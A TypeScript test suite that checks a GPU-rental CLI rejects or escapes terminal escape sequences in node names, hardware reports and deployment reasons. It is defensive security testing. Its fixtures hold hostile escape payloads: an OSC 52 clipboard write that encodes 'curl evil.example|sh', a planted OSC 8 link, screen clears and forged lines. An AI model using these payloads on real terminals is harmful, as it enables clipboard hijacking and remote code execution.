import { execFile } from "node:child_process";
import { join, resolve } from "node:path";
import { sqliteDatabase } from "@cm/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "../../control-plane/test/agents/support/agent-harness";
import { GPU, SimAgent, SPECS } from "../../control-plane/test/agents/support/sim-agent";
import { type Harness, startHarness, TestClock } from "../../control-plane/test/support/harness";
import { type CliResult, terminal } from "./support/cli";

// Strings other people write reach a tenant's terminal through cm: a node's name (anyone may
// enrol one), the hardware its agent reports, a deployment's reason (the agent's words). An
// operator who puts escape sequences in them must not get to retitle the window, write the
// clipboard (OSC 52), plant a link (OSC 8), clear the screen or forge lines. The real `cm`
// against a real control plane, with a real agent WebSocket for the reports.

const ROOT = resolve(import.meta.dirname, "../../..");
const TSX = join(ROOT, "node_modules/.bin/tsx");
const ENTRY = join(ROOT, "apps/cli/src/index.ts");

const EVIL_NAME = "gpu\u001b]0;pwned\u0007\u001b[2J\u001b]8;;https://evil.example/\u001b\\rate 1¢/h\u001b]8;;\u001b\\\u009b31m\u202eloop";
const EVIL_CPU = "EPYC\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007";
const EVIL_GPU = "H100\u001b[1A\u001b[2K";
const EVIL_DRIVER = "550\r\nrate:           0¢/h";
const EVIL_REASON = "pull failed\u001b]0;title\u0007\u009b2J\u2066done";

// What a terminal acts on; the newline ends cm's own lines and the tab separates piped columns.
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters the test looks for
const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const inert = (r: CliResult) => {
  expect(r.stdout).not.toMatch(ACTS);
  expect(r.stderr).not.toMatch(ACTS);
};

let h: Harness;
let t: ReturnType<typeof terminal>;
let api: Record<string, string>;
let operatorToken: string;
let legacyId: string;
let node: { id: string; agentToken: string; agent: SimAgent };

beforeAll(async () => {
  // The clock stands still at the real time: cm's tokens are valid by its clock, and nodes stay online.
  h = await startHarness(sqliteDatabase, { overrides: { clock: new TestClock(Date.now()) } });
  t = terminal();
  api = { CM_API_URL: h.url };
  operatorToken = (await h.signIn()).token;

  const r = await h.call("POST", "/operator/nodes", {
    token: operatorToken,
    body: { name: "clean", region: "eu-west", country: "DE", hourlyRateCents: 10, maxDeployments: 4 },
  });
  const { agent } = await SimAgent.connect(h.url, r.json.agentToken, { specs: false });
  node = { id: r.json.node.id, agentToken: r.json.agentToken, agent };
  agent.send({ type: "specs", specs: SPECS, gpus: [{ ...GPU, index: 0, uuid: "GPU-0" }] });
  await eventually(async () => expect((await h.call("GET", `/nodes/${node.id}`)).json.node.gpus).toHaveLength(1));

  // A node stored before names and reports were checked: the rows cm must still show safely.
  const operator = (await h.call("GET", "/auth/me", { token: operatorToken })).json.user;
  legacyId = h.deps.ids("node");
  await h.deps.repos.nodes.create({
    id: legacyId,
    operatorId: operator.id,
    name: EVIL_NAME,
    region: "eu-west",
    country: "DE",
    hourlyRateCents: 500,
    maxDeployments: 1,
    agentTokenHash: `legacy-${legacyId}`,
    createdAt: h.clock.now(),
  });
  await h.deps.repos.nodes.updateInventory(legacyId, { ...SPECS, cpuModel: EVIL_CPU }, [{ ...GPU, name: EVIL_GPU, driverVersion: EVIL_DRIVER }]);
  await h.deps.repos.nodes.markOnline(legacyId, h.clock.now());

  t.keypair();
  expect((await t.cm(["login"], api)).code).toBe(0);
  await h.grantCredits(JSON.parse((await t.cm(["whoami", "--json"], api)).stdout).user.id, 1_000);
}, 60_000);
afterAll(async () => {
  await node?.agent.close();
  t?.close();
  await h?.close();
});

describe("the API refuses control characters where operators name things", () => {
  it("cm operator add with an escape in the name: VALIDATION_ERROR naming the field, nothing enrolled", async () => {
    const before = (await h.call("GET", "/operator/nodes", { token: operatorToken })).json.nodes.length;
    const op = terminal(api);
    try {
      op.keypair();
      expect((await op.cm(["login"])).code).toBe(0);
      const r = await op.cm(["operator", "add", "--name", EVIL_NAME, "--region", "eu-west", "--country", "DE", "--rate", "1", "--max", "1"]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/^error VALIDATION_ERROR: .*name.*control characters/);
      inert(r);
      expect(JSON.parse((await op.cm(["operator", "nodes", "--json"])).stdout).nodes).toEqual([]);
    } finally {
      op.close();
    }
    expect((await h.call("GET", "/operator/nodes", { token: operatorToken })).json.nodes.length).toBe(before);
  });

  it("an agent's specs frame with an escape in a label is a BAD_FRAME, and nothing of it is stored", async () => {
    for (const [field, frame] of [
      ["specs.cpuModel", { specs: { ...SPECS, cpuModel: EVIL_CPU }, gpus: [{ ...GPU, index: 0, uuid: "GPU-0" }] }],
      ["gpus.0.name", { specs: SPECS, gpus: [{ ...GPU, name: EVIL_GPU, index: 0, uuid: "GPU-0" }] }],
      ["gpus.0.driverVersion", { specs: SPECS, gpus: [{ ...GPU, driverVersion: EVIL_DRIVER, index: 0, uuid: "GPU-0" }] }],
    ] as const) {
      node.agent.send({ type: "specs", ...frame });
      const error = await node.agent.next("error");
      expect(error.code).toBe("BAD_FRAME");
      expect(error.message).toContain(`${field}:`);
    }
    const stored = (await h.call("GET", `/nodes/${node.id}`)).json.node;
    expect(stored.specs.cpuModel).toBe(SPECS.cpuModel);
    expect(stored.gpus[0]).toMatchObject({ name: GPU.name, driverVersion: GPU.driverVersion });
  });
});

describe("cm shows other people's strings escaped, and --json exact", () => {
  it("cm nodes, piped: the name is one escaped cell, and --json parses back to the very name", async () => {
    const r = await t.cm(["nodes"], api);
    expect(r.code, r.stderr).toBe(0);
    inert(r);
    const row = r.stdout.split("\n").find((l) => l.startsWith(legacyId));
    expect(row?.split("\t")).toEqual([
      legacyId,
      "gpu\\x1b]0;pwned\\x07\\x1b[2J\\x1b]8;;https://evil.example/\\x1b\\rate 1¢/h\\x1b]8;;\\x1b\\\\x9b31m\\u202eloop",
      "online",
      "eu-west",
      "H100\\x1b[1A\\x1b[2K 24 GB",
      "1/1",
      "32 cores",
      "125 GB",
      "500¢/h",
      "0/1",
    ]);
    const json = await t.cm(["nodes", "--json"], api);
    inert(json);
    const listed = JSON.parse(json.stdout);
    expect(listed).toEqual((await h.call("GET", "/nodes")).json);
    expect(listed.nodes.find((n: { id: string }) => n.id === legacyId).name).toBe(EVIL_NAME);
  });

  it("cm nodes on a terminal: the aligned table, escaped", async () => {
    const r = await onTerminal(["nodes"]);
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout.replace(/\r\n/g, "\n")).not.toMatch(ACTS);
    expect(r.stdout).toMatch(/^ID +NAME +STATUS/m);
    expect(r.stdout).toContain("gpu\\x1b]0;pwned\\x07");
  });

  it("cm nodes show: the name, the CPU model, the GPU's name and driver escaped; no forged line", async () => {
    const r = await t.cm(["nodes", "show", legacyId], api);
    expect(r.code, r.stderr).toBe(0);
    inert(r);
    expect(r.stdout).toMatch(/^name: +gpu\\x1b\]0;pwned\\x07\\x1b\[2J/m);
    expect(r.stdout).toMatch(/^cpu: +EPYC\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07, 32 cores/m);
    expect(r.stdout).toMatch(/^gpu 0: +NVIDIA H100/m);
    expect(r.stdout).toContain("NVIDIA H100\\x1b[1A\\x1b[2K, 24 GB, compute 8.9, driver 550\\x0d\\x0arate:           0¢/h\n");
    expect(r.stdout.match(/^rate:/gm)).toEqual(["rate:"]);
    const json = JSON.parse((await t.cm(["nodes", "show", legacyId, "--json"], api)).stdout);
    expect(json.node.specs.cpuModel).toBe(EVIL_CPU);
    expect(json.node.gpus[0].driverVersion).toBe(EVIL_DRIVER);
  });

  it("deploy --wait and cm show: the reason the agent gave is escaped, in the status lines and the error", async () => {
    const waiting = t.cm(["deploy", "--image", "busybox:1.36", "--node", node.id, "--wait"], api);
    const command = await node.agent.next("command", (c) => c.action === "create", 60_000);
    node.agent.report(command.deployment, "failed", { reason: EVIL_REASON });
    const r = await waiting;
    expect(r.code).toBe(1);
    inert(r);
    expect(r.stderr).toContain("pull failed\\x1b]0;title\\x07\\x9b2J\\u2066done");
    const id = command.deployment.deploymentId;

    const show = await t.cm(["show", id], api);
    expect(show.code, show.stderr).toBe(0);
    inert(show);
    expect(show.stdout).toMatch(/^status: +failed \(pull failed\\x1b\]0;title\\x07\\x9b2J\\u2066done\)$/m);
    const json = await t.cm(["show", id, "--json"], api);
    inert(json);
    expect(JSON.parse(json.stdout).deployment.statusReason).toBe(EVIL_REASON);
  });
});

/** cm with a pseudo-terminal for its stdout, as at a shell (util-linux `script`). */
function onTerminal(args: string[]): Promise<{ code: number; stdout: string }> {
  const quote = (s: string) => `'${s.replace(/'/g, "'\\''")}'`;
  return new Promise((done) => {
    execFile(
      "script",
      ["-qec", [TSX, ENTRY, ...args].map(quote).join(" "), "/dev/null"],
      { cwd: ROOT, env: { PATH: process.env.PATH ?? "", HOME: t.home, XDG_CONFIG_HOME: join(t.home, ".config"), NO_COLOR: "1", ...api } },
      (err, stdout) => done({ code: err ? (typeof err.code === "number" ? err.code : -1) : 0, stdout }),
    );
  });
}
